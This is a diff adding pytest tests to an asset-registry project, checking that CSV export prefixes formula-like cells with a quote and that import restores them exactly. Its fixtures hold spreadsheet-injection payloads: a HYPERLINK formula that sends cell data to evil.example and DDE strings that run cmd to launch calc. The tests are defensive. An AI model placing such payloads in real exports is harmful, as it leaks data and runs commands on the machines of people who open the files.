@@ -6,6 +6,8 @@ feature (GeoJSON) and leaves the registry and the audit trail exactly as they we
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from collections.abc import Iterator
 from pathlib import Path
@@ -17,9 +19,9 @@ from sqlalchemy.orm import Session
 
 from conftest import fresh_db_url
 from safetyzone.assets import service as assets
-from safetyzone.assets import transfer
-from safetyzone.assets.models import Asset, Camera, CameraBinding
-from safetyzone.assets.schemas import ImportReport, TransferFormat
+from safetyzone.assets import transfer, transfer_csv
+from safetyzone.assets.models import Asset, AssetKind, Camera, CameraBinding
+from safetyzone.assets.schemas import AssetCreate, ImportReport, TransferFormat
 from safetyzone.audit.models import AuditEntry
 from safetyzone.config import Settings
 from safetyzone.core.clock import ManualClock
@@ -502,3 +504,75 @@ def test_export_then_import_into_another_database_round_trips(
             session, scope=ADMIN, station_id=org.get_station(session, scope=ADMIN,
                                                              code="ST-A").id)
     assert export(other_db, clock, fmt) == exported
+
+
+# Text a spreadsheet would run as a formula, as a partner might type it into a name or note.
+FORMULAS = {
+    "name_th": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    "name_en": "+1+cmd|' /C calc'!A0",
+    "note": "-2+3",
+}
+STORED_QUOTES = "'=already quoted by a person"  # must come back with its own quote
+
+
+def test_formula_text_is_neutralised_on_export_and_restored_on_import(
+    db: Database, other_db: Database, clock: ManualClock, settings: Settings, world: World,
+) -> None:
+    with db.write() as session:
+        for code, name_th, name_en, note in (
+                ("F-1", FORMULAS["name_th"], FORMULAS["name_en"], FORMULAS["note"]),
+                ("F-2", "@SUM(1+1)*cmd|' /C calc'!A0", STORED_QUOTES, "''+two quotes"),
+                ("F-3", "plain name", "a = b - c", "it's fine")):
+            assets.create_asset(session, scope=ADMIN, clock=clock, data=AssetCreate(
+                station_code="ST-A", zone_code="Z-ST-A", kind=AssetKind.RED_BOX, code=code,
+                name_th=name_th, name_en=name_en, lat=13.7301, lon=100.4702,
+                owner_class=OwnerClass.POLICE, note=note))
+    exported = export(db, clock)
+    rows = {r["code"]: r for r in csv.DictReader(io.StringIO(exported))}
+    assert rows["F-1"]["name_th"] == "'" + FORMULAS["name_th"]
+    assert rows["F-1"]["name_en"] == "'" + FORMULAS["name_en"]
+    assert rows["F-1"]["note"] == "'-2+3"
+    assert rows["F-2"]["name_th"].startswith("'@SUM")
+    assert rows["F-2"]["name_en"] == "'" + STORED_QUOTES
+    assert rows["F-2"]["note"] == "'''+two quotes"
+    assert (rows["F-3"]["name_th"], rows["F-3"]["name_en"]) == ("plain name", "a = b - c")
+    assert rows["F-3"]["note"] == "it's fine"
+    # No cell of the file starts a formula; numbers stay numbers.
+    for row in rows.values():
+        assert not any(cell[:1] in transfer_csv.FORMULA_START for cell in row.values()), row
+    assert all((rows[c]["lat"], rows[c]["lon"]) == ("13.7301", "100.4702") for c in ("F-1", "F-3"))
+
+    report = import_text(other_db, clock, settings, exported)
+    assert report.created >= 3
+    with other_db.read() as session:
+        stored = {a.code: (a.name_th, a.name_en, a.note)
+                  for a in session.scalars(select(Asset).where(Asset.code.like("F-%")))}
+    assert stored == {
+        "F-1": (FORMULAS["name_th"], FORMULAS["name_en"], FORMULAS["note"]),
+        "F-2": ("@SUM(1+1)*cmd|' /C calc'!A0", STORED_QUOTES, "''+two quotes"),
+        "F-3": ("plain name", "a = b - c", "it's fine"),
+    }
+    assert export(other_db, clock) == exported
+
+
+@pytest.mark.parametrize(("value", "cell"), [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-x", "'-x"), ("@x", "'@x"), ("\tx", "'\tx"),
+    ("\rx", "'\rx"), ("'=x", "''=x"), ("''-x", "'''-x"), ("'x", "'x"), ("'", "'"), ("", ""),
+    ("x=1", "x=1"), ("ตู้แดง", "ตู้แดง"), (-12.5, "-12.5"), (-3, "-3"), (13.73, "13.73"),
+    (True, "true"), (None, ""), (["=A1", "B2"], "'=A1;B2"),
+])
+def test_each_cell_is_neutralised_and_restored_exactly(value: object, cell: str) -> None:
+    assert transfer_csv.csv_cell(value) == cell
+    if isinstance(value, str):
+        assert transfer_csv.restore(cell) == value
+
+
+def test_a_hand_written_quote_before_a_formula_is_taken_off_and_others_kept(
+    db: Database, clock: ManualClock, settings: Settings, world: World,
+) -> None:
+    text = (f"{HEADER},note\nred_box,Q-1,'=not a formula,13.7301,100.4702,Z-ST-A,police,"
+            "'it's mine\n")
+    import_text(db, clock, settings, text)
+    with db.read() as session:
+        asset = session.scalars(select(Asset).where(Asset.code == "Q-1")).one()
+    assert (asset.name_th, asset.lat, asset.note) == ("=not a formula", 13.7301, "'it's mine")
